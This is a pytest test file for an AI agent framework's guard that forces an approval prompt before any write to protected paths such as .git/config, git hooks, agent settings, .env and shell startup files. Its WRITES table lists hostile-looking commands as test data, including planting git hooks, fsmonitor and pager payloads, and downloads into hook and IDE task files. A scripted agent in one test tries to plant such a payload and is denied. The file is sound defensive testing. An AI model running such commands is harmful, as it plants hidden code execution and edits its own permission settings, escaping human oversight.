"""Tests for fsm.policy.protected: writes to protected paths ask in every mode unless an Edit rule names them.

Most tests ask the policy for its verdict only; the chain tests run the agent's real tools in a temporary
workspace (a denied write must leave the file as it was).
"""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fsm import Agent, Allow, Ask, Hooks, Policy
from fsm.policy.chain import deny_unattended
from fsm.policy.protected import Places, bash_writes, file_writes
from fsm.policy.rules import parse_rule
from fsm.testing import ScriptedModel, text_reply, tool_reply, tool_use
from tools import Workspace
from tools.protected import PROTECTED_DIRS, PROTECTED_FILES

MODES = ("default", "acceptEdits", "bypassPermissions")


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A temporary HOME holding a `.bashrc`."""
    path = tmp_path / "home"
    path.mkdir()
    (path / ".bashrc").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(path))
    return path


@pytest.fixture
def ws(tmp_path: Path, home: Path) -> Workspace:
    """A workspace that is a git repository (a `.git/config`, a `.git/hooks/`), with a link to its config."""
    root = tmp_path / "ws"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n")
    (root / "notes.txt").write_text("x")
    os.symlink(".git/config", root / "link")
    return Workspace(root)


def decide(policy: Policy, ws: Workspace, name: str, **tool_input: str):
    return policy.decide({"name": name, "id": "t", "input": tool_input}, ws)


def rules(ws: Workspace, *texts: str):
    return tuple(parse_rule(t, source="test", base=ws.root) for t in texts)


WRITES = {
    "echo '{\"permissions\": {}}' > .claude/settings.local.json": ".claude",
    "echo x >> .git/config": ".git/config",
    "echo x >& .git/config": ".git/config",
    "echo x &>> .vscode/tasks.json": ".vscode",
    "echo x | tee -a .git/hooks/pre-commit": ".git/hooks",
    "cp evil .git/hooks/pre-commit": ".git/hooks",
    "cp -t .git/hooks evil": ".git/hooks",
    "cp evil .git/hooks": ".git/hooks",
    "mv evil .git/hooks/post-checkout": ".git/hooks",
    "mv .claude/settings.json old.json": ".claude",
    "ln -sf evil .git/hooks/pre-commit": ".git/hooks",
    "install -m 755 evil .git/hooks/pre-commit": ".git/hooks",
    "rsync evil .idea/workspace.xml": ".idea",
    "sed -i s/a/b/ .git/config": ".git/config",
    "sed -i.bak -e s/a/b/ .git/config": ".git/config",
    "perl -pi -e s/a/b/ .mcp.json": ".mcp.json",
    "touch .env": ".env",
    "mkdir -p .claude/commands": ".claude",
    "truncate -s0 .env.local": ".env.*",
    "dd if=evil of=.git/config": ".git/config",
    "chmod +x .git/hooks/pre-commit": ".git/hooks",
    "rm .claude/settings.json": ".claude",
    "rm -rf .git": ".git",
    "git config core.fsmonitor 'touch PWNED'": ".git/config",
    "git config --local --add core.pager evil": ".git/config",
    "git config set core.pager evil": ".git/config",
    "git -C . config core.pager evil": ".git/config",
    "git config --global core.pager evil": ".gitconfig",
    "git init": ".git/config",
    "git init --template=evil": ".git/config",
    "git remote add origin https://example.invalid/x": ".git/config",
    "git submodule add ../x sub": ".git/config",
    "echo x >> ~/.bashrc": ".bashrc",
    "echo x > ~/.claude/settings.json": ".claude",
    "echo '{}' > ~/.claude.json": ".claude.json",
    "tee ${HOME}/.zshrc": ".zshrc",
    'tee "$HOME"/.profile': ".profile",
    "echo x >> link": ".git/config",
    "cd .git && echo x > config": ".git/config",
    "cd .git; cd hooks; echo x > pre-push": ".git/hooks",
    "tee .git/{config,description}": ".git/config",
    "echo x > .git/conf*": ".git/config",  # a glob target: what it matches now
    "echo x > .gi?/config": ".git/config",  # so even when the line names no protected path
    "echo x > .GIT/CONFIG": ".git/config",
    "git -C .git config --file config core.pager x": ".git/config",  # --file is read from the -C directory
    "tar -xf /tmp/x.tar -C .git": ".git",  # an archive may hold hooks/…: the directory extracted into counts
    "tar --extract --file=x.tar --directory=.claude": ".claude",
    "unzip -oq /tmp/x.zip -d .claude": ".claude",
    "echo x > sub/.git/config": ".git/config",
    "echo x > .git/modules/lib/config": ".git/config",
    "echo x > ../other/.claude/settings.json": ".claude",
    "cp -r evil/. .": "every protected path under it",
    "bash -c 'echo x >> .git/config'": ".git/config",
    "cat > .git/config <<EOF\n[core]\nEOF": ".git/config",
    "exec 3>.git/config": ".git/config",
    "awk -i inplace 1 .env": ".env",
    "ed -s .git/config": ".git/config",
    "curl -sSLo .git/hooks/pre-commit https://example.invalid/x": ".git/hooks",
    "wget -O .vscode/tasks.json https://example.invalid/x": ".vscode",
    "sort -o .env x": ".env",
    "git diff --output=.git/config": ".git/config",
    "ln .git/config hard": ".git/config",
    "cp -l .git/config hard": ".git/config",
    "GIT_CONFIG_GLOBAL=.git/config git config --global a.b c": ".git/config",
    "busybox tee .git/config": ".git/config",
    "python3 - <<EOF\nopen('.bashrc', 'a')\nEOF": ".bashrc",
    "awk '{print > \".git/config\"}' notes.txt": ".git/config",
    "node -e \"require('fs').writeFileSync('.mcp.json', '')\"": ".mcp.json",
    "$EDITOR .git/config": ".git/config",
    "find . -name x -exec tee .git/config ;": ".git/config",
}
"""Commands that write a protected path, and the entry that protects it."""

SAFE = [
    "tar -tf x.tar",
    "unzip -l x.zip",
    "mkdir -p build && tar -xf x.tar -C build",
    "echo hi > out.txt",
    "cp notes.txt copy.txt",
    "cp -r src build",
    "mkdir -p src/pkg",
    "echo x >> .gitignore",
    "git config --get core.pager",
    "git config core.pager",
    "git config --file other.cfg a.b c",
    "git commit -m x",
    "cat .git/config",
    "grep -r x .claude",
    'for f in *.txt; do sed -i s/a/b/ "$f"; done',
    "cp .git/config backup.cfg",
    "awk 1 .git/config",
    "curl -fsSL https://example.invalid/x",
    "git diff --stat",
    "source .env && npm test",
    "export $(cat .env | xargs)",
    "python3 scripts/check.py .vscode/settings.json",
]
"""Commands that write no protected path (or only read one)."""


class TestBashWrites:
    @pytest.mark.parametrize("command", list(WRITES))
    def test_finds_the_protected_path(self, ws: Workspace, command: str):
        """Each way of writing a protected path is found, with the entry that protects it."""
        hits = bash_writes(command, places=Places(ws.root))
        assert WRITES[command] in [h.entry for h in hits], hits

    @pytest.mark.parametrize("command", SAFE)
    def test_leaves_other_writes_and_reads_alone(self, ws: Workspace, command: str):
        """Ordinary writes and reads of protected paths are not writes to a protected path."""
        assert bash_writes(command, places=Places(ws.root)) == []

    def test_a_link_to_a_protected_path_is_followed(self, ws: Workspace):
        """`echo >> link` where link -> .git/config is a write to .git/config, and says so."""
        (hit,) = bash_writes("echo x >> link", places=Places(ws.root))
        assert (hit.shown, hit.path, hit.rule) == (
            "link -> .git/config",
            str(ws.root / ".git/config"),
            "Edit(./.git/config)",
        )

    def test_a_hard_link_to_a_protected_file_is_found(self, ws: Workspace):
        """`echo >> h` where h is a hard link of .git/config (made earlier by some program) writes .git/config."""
        os.link(ws.root / ".git" / "config", ws.root / "h")
        (hit,) = bash_writes("echo x >> h", places=Places(ws.root))
        assert (hit.shown, hit.entry, hit.rule) == (
            "h (a hard link to .git/config)",
            ".git/config",
            "Edit(./.git/config)",
        )
        assert bash_writes("echo x >> notes.txt", places=Places(ws.root)) == []

    def test_an_additional_directory_is_a_root_too(self, ws: Workspace, tmp_path: Path):
        """`.vscode/` of an additional directory is protected, and its rule is absolute."""
        extra = tmp_path / "extra"
        extra.mkdir()
        (hit,) = bash_writes(f"touch {extra}/.vscode/tasks.json", places=Places(ws.root, (extra,)))
        assert hit.entry == ".vscode" and hit.rule == f"Edit(/{extra}/.vscode/tasks.json)"

    def test_a_target_known_only_at_run_time_counts_when_the_line_names_a_protected_path(self, ws: Workspace):
        """An interpreter's code or a variable target naming `.git/config` counts; one naming nothing does not."""
        (hit,) = bash_writes("python3 -c \"open('.git/config', 'a').write('x')\"", places=Places(ws.root))
        assert (hit.entry, hit.path, hit.rule) == (".git/config", "", None)
        assert bash_writes("F=.bashrc; echo x >> ~/$F", places=Places(ws.root))
        assert bash_writes('python3 -c "print(1)" > out.txt', places=Places(ws.root)) == []

    def test_a_directory_known_only_at_run_time(self, ws: Workspace):
        """After `cd "$(git rev-parse --git-dir)"`, writing `config` or `hooks/x` counts; writing `log.txt` not."""
        (hit,) = bash_writes('cd "$(git rev-parse --git-dir)" && echo x >> config', places=Places(ws.root))
        assert (hit.entry, hit.rule) == (".git/config", None)
        assert bash_writes('cd "$D" && echo x > hooks/pre-commit', places=Places(ws.root))
        assert bash_writes('cd "$D" && make > log.txt', places=Places(ws.root)) == []


class TestFileWrites:
    @pytest.mark.parametrize(
        ("path", "entry"),
        [
            (".git/config", ".git/config"),
            (".git/hooks/pre-commit", ".git/hooks"),
            (".git/info/attributes", ".git/info"),
            (".claude/settings.local.json", ".claude"),
            (".vscode/tasks.json", ".vscode"),
            (".idea/workspace.xml", ".idea"),
            (".mcp.json", ".mcp.json"),
            (".env", ".env"),
            ("app/.env.production", ".env.*"),
            (".bashrc", ".bashrc"),
            ("~/.bashrc", ".bashrc"),
            ("~/.ssh/config", ".ssh"),
            ("./.git/../.git/config", ".git/config"),
            ("link", ".git/config"),
        ],
    )
    def test_finds_the_protected_path(self, ws: Workspace, path: str, entry: str):
        """write_file/edit_file of a protected path (through `~`, `..` or a link) is found."""
        assert [h.entry for h in file_writes(path, places=Places(ws.root))] == [entry]

    def test_the_configured_hooks_directory_is_protected(self, ws: Workspace):
        """When .git/config sets core.hooksPath (husky's `.husky`), its files are hooks: writing one is found."""
        (ws.root / ".git" / "config").write_text('[core]\n\thooksPath = ".husky"\n')
        assert [h.entry for h in file_writes(".husky/pre-commit", places=Places(ws.root))] == [".husky"]
        (ws.root / ".git" / "config").write_text("[core]\n")
        assert file_writes(".husky/pre-commit", places=Places(ws.root)) == []

    def test_agentfsm_state_is_protected_where_xdg_puts_it(
        self, ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ):
        """agentfsm's state directory (its trust records) is protected at $XDG_STATE_HOME, and under ~ without it."""
        monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
        hits = file_writes(str(tmp_path / "state" / "agentfsm" / "trust.json"), places=Places(ws.root))
        assert [h.entry for h in hits] == ["agentfsm"]
        monkeypatch.delenv("XDG_STATE_HOME")
        assert [h.entry for h in file_writes("~/.local/state/agentfsm/x", places=Places(ws.root))] == [
            ".local/state/agentfsm"
        ]

    def test_hostile_git_files_do_not_hang(self, ws: Workspace, tmp_path: Path):
        """A FIFO as .git/config or as a nested `.git` is not read: the check ends at once."""
        (ws.root / ".git" / "config").unlink()
        os.mkfifo(ws.root / ".git" / "config")
        (ws.root / "sub").mkdir()
        os.mkfifo(ws.root / "sub" / ".git")
        found: list[list[str]] = []

        def check() -> None:
            places = Places(ws.root)
            found.append([h.entry for h in file_writes(".husky/pre-commit", places=places)])
            found.append([h.entry for h in bash_writes("git -C sub config a.b c", places=places)])

        thread = threading.Thread(target=check, daemon=True)
        thread.start()
        thread.join(10)
        assert not thread.is_alive() and found == [[], [".git/config"]]

    @pytest.mark.parametrize("path", ["src/app.py", ".gitignore", ".github/workflows/ci.yml", "notes.txt"])
    def test_other_paths_are_not_protected(self, ws: Workspace, path: str):
        """Ordinary files are not protected."""
        assert file_writes(path, places=Places(ws.root)) == []


_SAFE_NAME = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789_-", min_size=1, max_size=8)


class TestProperties:
    @settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(
        prefix=st.lists(_SAFE_NAME, max_size=3),
        entry=st.sampled_from([*PROTECTED_DIRS, *PROTECTED_FILES, ".bashrc", ".env", ".env.local", ".zshrc"]),
        suffix=st.lists(_SAFE_NAME, max_size=2),
    )
    def test_a_protected_entry_anywhere_is_found(self, ws: Workspace, prefix: list[str], entry: str, suffix: list[str]):
        """A write to a protected entry (or below a protected directory), under any directories, is found."""
        below = suffix if entry in PROTECTED_DIRS else []
        path = "/".join([*prefix, entry, *below])
        assert file_writes(path, places=Places(ws.root)), path
        assert bash_writes(f"echo x > {path}", places=Places(ws.root)), path

    @settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(parts=st.lists(_SAFE_NAME, min_size=1, max_size=4))
    def test_ordinary_paths_are_not_protected(self, ws: Workspace, parts: list[str]):
        """A path of ordinary names (none starting with a dot) is never protected."""
        path = "/".join(parts)
        assert file_writes(path, places=Places(ws.root)) == []
        assert bash_writes(f"echo x > {path}; cp a {path}; touch {path}", places=Places(ws.root)) == []


class TestGuard:
    @pytest.mark.parametrize("mode", [*MODES, "dontAsk"])
    def test_bash_write_is_a_forced_ask_in_every_mode(self, ws: Workspace, mode: str):
        """Every protected write of WRITES asks in every mode, bypassPermissions included, and a hook cannot
        allow it (the ask is forced)."""
        policy = Policy(mode=mode, allow=rules(ws, "Bash(echo:*)", "Bash(tee:*)", "Bash(cp:*)"))
        for command in WRITES:
            verdict = decide(policy, ws, "bash", command=command)
            assert (verdict.behavior, verdict.forced) == ("ask", True), (command, verdict)
            assert "protected path" in verdict.reason and verdict.rule.startswith("protected path"), command

    @pytest.mark.parametrize("mode", MODES)
    @pytest.mark.parametrize("path", [".git/config", ".git/hooks/pre-commit", ".vscode/tasks.json", ".bashrc"])
    def test_file_write_is_a_forced_ask_in_every_mode(self, ws: Workspace, mode: str, path: str):
        """write_file and edit_file of a protected path ask in every mode, with the rule that would allow it."""
        for tool in ("write_file", "edit_file"):
            verdict = decide(Policy(mode=mode), ws, tool, path=path, content="x")
            assert (verdict.behavior, verdict.forced, verdict.suggestions) == ("ask", True, (f"Edit(./{path})",))
            entry = _entry(path)
            shown = path if entry == path else f"{path} ({entry})"
            assert verdict.reason.endswith(f"{tool} {path} writes a protected path: {shown}")

    def test_plan_mode_still_denies(self, ws: Workspace):
        """plan mode's deny of an edit stays a deny."""
        assert decide(Policy(mode="plan"), ws, "write_file", path=".git/config", content="x").behavior == "deny"

    def test_a_deny_rule_still_denies(self, ws: Workspace):
        """A deny rule on the path wins over the protected ask."""
        policy = Policy(mode="bypassPermissions", deny=rules(ws, "Edit(./.git/**)"))
        assert decide(policy, ws, "write_file", path=".git/config", content="x").behavior == "deny"

    @pytest.mark.parametrize("mode", MODES)
    def test_reading_is_not_affected(self, ws: Workspace, mode: str):
        """read_file and `cat` of .git/config run without asking."""
        policy = Policy(mode=mode)
        assert decide(policy, ws, "read_file", path=".git/config").behavior == "allow"
        assert decide(policy, ws, "bash", command="cat .git/config .claude/x").behavior == "allow"

    def test_ordinary_writes_keep_their_mode(self, ws: Workspace):
        """bypassPermissions still allows an ordinary write; acceptEdits an ordinary edit."""
        assert decide(Policy(mode="bypassPermissions"), ws, "bash", command="echo x > out.txt").behavior == "allow"
        assert decide(Policy(mode="acceptEdits"), ws, "write_file", path="src/a.py", content="x").behavior == "allow"

    def test_suggestions_join_the_commands_own(self, ws: Workspace):
        """In default mode the ask offers the Edit rule and the rule the command itself needs."""
        verdict = decide(Policy(), ws, "bash", command="touch .vscode/tasks.json")
        assert verdict.suggestions == ("Edit(./.vscode/tasks.json)", "Bash(touch:*)")

    def test_no_rule_can_allow_what_is_known_only_at_run_time(self, ws: Workspace):
        """An interpreter writing a path it names asks with no rule to offer, even in bypassPermissions."""
        verdict = decide(Policy(mode="bypassPermissions"), ws, "bash", command="python3 -c \"open('.env','w')\"")
        assert verdict.behavior == "ask" and verdict.suggestions == ()
        assert "names .env, a protected path, and may write it in a way known only when it runs" in verdict.reason


class TestAllowRules:
    @pytest.mark.parametrize(
        ("rule", "tool", "path"),
        [
            ("Edit(./.git/config)", "write_file", ".git/config"),
            ("Edit(.git/config)", "edit_file", ".git/config"),
            ("Write(./.git/hooks/pre-commit)", "write_file", ".git/hooks/pre-commit"),
            ("Edit(./.git/hooks/**)", "write_file", ".git/hooks/pre-commit"),
            ("Edit(.claude/**)", "write_file", ".claude/settings.local.json"),
            ("Edit(~/.bashrc)", "write_file", "~/.bashrc"),
            ("Edit(.env.*)", "write_file", ".env.local"),
            ("Edit(./.git/config)", "write_file", "link"),
        ],
    )
    def test_a_rule_naming_the_path_allows_the_file_tool(self, ws: Workspace, rule: str, tool: str, path: str):
        """An Edit/Write allow rule that names the protected path lets the file tool write it, in bypassPermissions."""
        policy = Policy(mode="bypassPermissions", allow=rules(ws, rule))
        assert decide(policy, ws, tool, path=path, content="x").behavior == "allow"

    @pytest.mark.parametrize(
        "rule", ["Edit", "Edit(**)", "Edit(./**)", "Edit(/**)", "Edit(.git/hooks/**)", "Edit(*)", "Edit(config)"]
    )
    def test_a_rule_that_does_not_name_it_does_not(self, ws: Workspace, rule: str):
        """A broad rule, or one naming another protected path, does not waive the ask for .git/config."""
        policy = Policy(mode="bypassPermissions", allow=rules(ws, rule))
        assert decide(policy, ws, "write_file", path=".git/config", content="x").behavior == "ask"

    def test_the_edit_rule_allows_the_bash_write_too(self, ws: Workspace):
        """Under Bash(echo:*), `echo >> .git/config` runs once Edit(./.git/config) is allowed: one rule per path."""
        policy = Policy(allow=rules(ws, "Bash(echo:*)", "Edit(./.git/config)"))
        assert decide(policy, ws, "bash", command="echo x >> .git/config").behavior == "allow"
        assert decide(policy, ws, "bash", command="echo x >> .git/hooks/pre-commit").behavior == "ask"

    def test_an_exact_bash_rule_does_not_waive_it(self, ws: Workspace):
        """An exact Bash rule naming the whole command does not waive the protected-path ask."""
        policy = Policy(mode="bypassPermissions", allow=rules(ws, "Bash(echo x >> .git/config)"))
        assert decide(policy, ws, "bash", command="echo x >> .git/config").behavior == "ask"

    def test_a_session_rule_waives_it(self, ws: Workspace):
        """The rule the REPL's `a` answer remembers (the ask's suggestion) lets the next write through."""
        policy = Policy(mode="acceptEdits")
        verdict = decide(policy, ws, "write_file", path=".git/config", content="x")
        for text in verdict.suggestions:
            policy.remember(parse_rule(text, base=ws.root))
        assert decide(policy, ws, "write_file", path=".git/config", content="x").behavior == "allow"


class TestChain:
    def test_the_documented_denial(self, ws: Workspace):
        """Headless in bypassPermissions, the denial of `echo x >> .git/config` is docs/permissions.md's text."""
        verdict = decide(Policy(mode="bypassPermissions"), ws, "bash", command="echo x >> .git/config")
        denial = deny_unattended({}, Ask(verdict.reason, verdict.suggestions))
        assert denial.reason == (
            "Permission denied: `echo x >> .git/config` writes a protected path: .git/config; it needs approval and "
            "no one could be asked; to allow it, add Edit(./.git/config) to permissions.allow in .claude/settings.json"
            " of a trusted folder, or in ~/.claude/settings.json"
        )

    def test_a_hook_allow_does_not_skip_the_ask_and_headless_denies(self, ws: Workspace):
        """A PreToolUse hook that allows everything does not let write_file reach .git/config in bypassPermissions;
        unattended, the call is denied naming the rule, and the file is unchanged."""
        hooks = Hooks()
        hooks.on("PreToolUse", lambda e: Allow())
        payload = '[core]\n\tfsmonitor = "touch PWNED"\n'
        model = ScriptedModel(
            [
                tool_reply(
                    tool_use("write_file", {"path": ".git/config", "content": payload}, id="w"),
                    tool_use("bash", {"command": "echo '[core] hooksPath = x' >> .git/config"}, id="b"),
                    tool_use("write_file", {"path": ".vscode/tasks.json", "content": "{}"}, id="v"),
                ),
                text_reply("done"),
            ]
        )
        agent = Agent(
            model=model,
            workdir=ws.root,
            hooks=hooks,
            permissions=Policy(mode="bypassPermissions"),
            approver=deny_unattended,
        )
        agent.send("plant it")
        agent.run()
        reasons = {d.tool_use_id: d.reason for d in agent.data.denials}
        assert set(reasons) == {"w", "b", "v"}
        assert "to allow it, add Edit(./.git/config) to permissions.allow" in reasons["w"]
        assert "Edit(./.git/config)" in reasons["b"] and "Edit(./.vscode/tasks.json)" in reasons["v"]
        assert (ws.root / ".git" / "config").read_text() == "[core]\n"
        assert not (ws.root / ".vscode").exists()

    def test_with_the_rule_the_write_happens(self, ws: Workspace):
        """The same write, with Edit(./.git/config) allowed, is made."""
        model = ScriptedModel(
            [
                tool_reply(tool_use("write_file", {"path": ".git/config", "content": "[user]\n"}, id="w")),
                text_reply("ok"),
            ]
        )
        policy = Policy(mode="bypassPermissions", allow=rules(ws, "Edit(./.git/config)"))
        agent = Agent(model=model, workdir=ws.root, permissions=policy, approver=deny_unattended)
        agent.send("write it")
        agent.run()
        assert agent.data.denials == [] and (ws.root / ".git" / "config").read_text() == "[user]\n"


def _entry(path: str) -> str:
    return {".git/hooks/pre-commit": ".git/hooks", ".vscode/tasks.json": ".vscode"}.get(path, path)
